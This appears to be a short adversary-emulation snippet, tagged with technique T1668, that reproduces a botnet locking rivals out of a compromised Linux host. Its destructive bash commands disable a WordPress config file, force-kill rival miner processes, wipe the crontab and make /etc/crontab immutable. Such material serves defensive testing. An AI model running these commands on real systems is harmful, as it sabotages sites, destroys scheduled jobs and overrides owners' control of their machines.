# title: A botnet keeps others out: it closes the hole it came by and ends its rivals
# technique: T1668
# needs: bash

chmod 000 /var/www/html/wp-config.php
for name in kinsing xmrig kdevtmpfsi; do pkill -9 -f "$name"; done
crontab -r 2>/dev/null; chattr +i /etc/crontab 2>/dev/null; true
